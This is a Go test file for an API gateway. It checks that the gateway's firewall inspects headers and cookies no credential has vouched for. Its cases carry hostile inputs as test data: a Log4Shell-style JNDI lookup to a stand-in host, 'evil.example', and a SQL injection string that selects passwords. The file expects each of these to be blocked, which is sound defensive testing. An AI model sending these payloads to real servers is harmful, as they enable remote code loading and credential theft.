package gateway

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/crenel-project/crenel/config"
	"github.com/crenel-project/crenel/internal/guard/authn/apikey"
)

// credentialed is a gateway with many ways to say who calls.
func credentialed(t testing.TB, i *issuing, upstream string) (g *Gateway, key string) {
	t.Helper()
	dir := t.TempDir()
	key, entry, err := apikey.Generate(apikey.Key{Subject: "shop"}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	keys := &apikey.File{Path: filepath.Join(dir, "keys.yaml"), Keys: []apikey.Key{entry}}
	if err := keys.Save(); err != nil {
		t.Fatal(err)
	}
	text := fmt.Sprintf(`version: 1
apis:
- name: t
  spec: api.yaml
  upstream: {urls: ["http://up.test:1"], credentials: %s}
  operations: [{operation: blob, public: true}]
  guards:
    waf: {}
    authn:
      methods:
      - jwt: {issuer: %q, jwks: "%[2]s/jwks", audience: [shop], dpop: {}}
      - introspection: {url: "%[2]s/introspect", audience: [shop], auth: {method: bearer, token: "${T}"}, dpop: {}}
      - api_key: {header: X-API-Key, file: keys.yaml}
      - api_key: {query: api_key, file: keys.yaml}
      - own: {cookie: sid}
      - own: {header: X-Session}
      - jwt: {issuer: %[2]q, jwks: "%[2]s/jwks", audience: [shop], cookie: token}
`, upstream, i.url)
	document := strings.Replace(testDocument, "schema: {type: integer}}]", "schema: {type: integer}}, {name: api_key, in: query, schema: {type: string}}]", 1)
	if err := os.WriteFile(filepath.Join(dir, "api.yaml"), []byte(document), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("T", "the-gateways-own-token")
	cfg, err := config.Parse([]byte(text), filepath.Join(dir, "crenel.yaml"), config.Options{})
	if err != nil {
		t.Fatal(err)
	}
	g, err = New(context.Background(), cfg, Deps{Trail: &records{}, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := g.Close(); err != nil {
			t.Error(err)
		}
	})
	return g, key
}

// What nothing has verified is inspected, also beside a credential that was.
func TestUnprovenIsInspected(t *testing.T) {
	i := newIssuing(t)
	g, key := credentialed(t, i, "pass")
	jwt := i.token(false)
	const sql = "1' UNION SELECT password FROM users--"
	for name, c := range map[string]struct {
		h    http.Header
		want int
	}{
		"the key alone":                       {http.Header{"X-Api-Key": {key}}, 200},
		"the token alone":                     {http.Header{"Cookie": {"token=" + jwt}}, 200},
		"Authorization of another scheme":     {http.Header{"X-Api-Key": {key}, "Authorization": {"Custom ${jndi:ldap://evil.example/a}"}}, 403},
		"the API's own session header":        {http.Header{"X-Api-Key": {key}, "X-Session": {"${jndi:ldap://evil.example/a}"}}, 403},
		"the API's own session cookie":        {http.Header{"X-Api-Key": {key}, "Cookie": {"sid=" + sql}}, 403},
		"a cookie whose name differs in case": {http.Header{"Cookie": {"token=" + jwt + "; TOKEN=" + sql}}, 403},
	} {
		r := httptest.NewRequest(http.MethodGet, "/items", nil)
		for n, v := range c.h {
			r.Header[n] = v
		}
		reached := false
		w := httptest.NewRecorder()
		g.Handler(func(string) Upstream {
			return func(w http.ResponseWriter, _ *http.Request) error {
				reached = true
				w.Header().Set("Content-Type", "application/json")
				_, err := w.Write([]byte("{}"))
				return err
			}
		}).ServeHTTP(w, r)
		if w.Code != c.want || reached != (c.want == 200) {
			t.Errorf("%s: status %d, reached %v: %s", name, w.Code, reached, w.Body)
		}
	}
}
